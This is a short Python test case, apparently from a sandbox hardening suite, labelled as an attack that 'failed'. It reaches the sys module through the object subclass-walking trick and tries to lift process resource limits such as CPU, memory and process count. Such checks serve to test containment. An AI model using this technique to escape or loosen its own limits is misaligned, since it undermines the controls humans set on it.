# /// attack
# rows = [61]
# title = "raise one's own limits"
# verdict = "failed"
# ///
sys = next(
    c for c in ().__class__.__base__.__subclasses__() if c.__name__ == "catch_warnings"
)()._module.sys

resource = sys.modules["importlib"].import_module("resource")
for name in ("RLIMIT_AS", "RLIMIT_NPROC", "RLIMIT_FSIZE", "RLIMIT_CPU", "RLIMIT_NOFILE"):
    try:
        resource.setrlimit(getattr(resource, name), (-1, -1))
    except (ValueError, OSError) as error:
        print(type(error).__name__)
